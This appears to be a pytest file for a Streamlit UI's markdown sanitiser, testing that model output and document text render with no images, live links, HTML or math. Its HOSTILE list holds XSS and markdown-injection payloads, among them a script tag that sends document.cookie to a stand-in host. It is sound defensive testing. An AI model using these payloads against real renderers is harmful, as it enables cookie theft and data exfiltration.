"""Model output and document text are shown inert: no images, no live links, no HTML, no math."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from ui.render import IMAGE_REMOVED, plain_text, safe_markdown

ROOT = Path(__file__).resolve().parents[1]
# CommonMark with GFM tables and strikethrough: what Streamlit's renderer accepts, minus its extensions.
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])

HOSTILE = [
    "See ![chart](http://203.0.113.9/pixel.png) for details.",
    "![a][ref]\n\n[ref]: http://203.0.113.9/p.png",
    "[click here](javascript:alert(document.cookie))",
    "[docs](https://evil.example/path?q=(1))",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('http://203.0.113.9/'+document.cookie)</script>",
    "<a href='http://203.0.113.9'>link</a>",
    "<http://203.0.113.9/autolink>",
    "&#106;avascript:alert(1) &lt;b&gt;",
    "Bare https://evil.example/x and www.evil.example and a@evil.example",
    "$\\href{javascript:alert(1)}{x}$ and :red[alarm] and :material/warning:",
    "\\[escaped](http://203.0.113.9) \\![img](http://203.0.113.9/i.png)",
]


def _html(markdown: str) -> str:
    return MD.render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("render", [safe_markdown, plain_text])
def test_hostile_markdown_renders_without_images_links_or_html(render, text: str) -> None:
    html = _html(render(text))
    assert "<img" not in html
    assert "<a " not in html
    assert "<script" not in html
    assert not re.search(r"<(?!/?(p|strong|em|code|pre|ul|ol|li|br|del|table|thead|tbody|tr|th|td)\b)[a-z]", html)
    # Math and Streamlit directives need unescaped $ and [ outside code.
    rendered = re.sub(r"`[^`]*`", "", render(text))
    assert not re.search(r"(?<!\\)\$", rendered)
    assert not re.search(r"(?<!\\)\[", rendered)
    # remark-gfm links bare addresses found in text after parsing: they must only appear inside code.
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    assert not re.search(r"(?i)://|\bwww\.|@evil", outside_code)


def test_images_are_replaced_by_a_visible_note_and_link_text_is_kept() -> None:
    html = _html(safe_markdown("Total ![x](http://203.0.113.9/a.png) is [27 days](http://203.0.113.9/p) [1]."))
    assert IMAGE_REMOVED in html
    assert "27 days (<code>http://203.0.113.9/p</code>)" in html
    assert "[1]" in html


def test_addresses_are_shown_as_code_exactly() -> None:
    html = _html(safe_markdown("Write to hr@example.org or see www.example.org/leave \x00[x](http://a.b)\x01."))
    assert "<code>hr@example.org</code>" in html
    assert "<code>www.example.org/leave</code>" in html
    assert "x (<code>http://a.b</code>)" in html


def test_ordinary_formatting_survives() -> None:
    html = _html(safe_markdown("**Leave:** 27 days\n\n- item one\n- item `code <b>`\n\n```\n<b>raw</b>\n```"))
    assert "<strong>Leave:</strong>" in html
    assert "<li>item one</li>" in html
    assert "<code>code &lt;b&gt;</code>" in html
    assert "&lt;b&gt;raw&lt;/b&gt;" in html


def test_plain_text_shows_document_text_exactly() -> None:
    text = "Cost: 5 * 3 = 15 # not a heading\n<b>bold?</b> _x_ [1] 100% ~ok~"
    html = _html(plain_text(text))
    assert "<strong>" not in html and "<em>" not in html and "<h1>" not in html and "<del>" not in html
    assert "Cost: 5 * 3 = 15 # not a heading" in html
    assert "&lt;b&gt;bold?&lt;/b&gt; _x_ [1] 100% ~ok~" in html


def test_no_unsafe_html_anywhere_in_the_ui() -> None:
    for path in (ROOT / "ui").rglob("*.py"):
        source = path.read_text()
        assert "unsafe_allow_html" not in source, path
        assert "st.html(" not in source, path
        assert "components.html" not in source, path
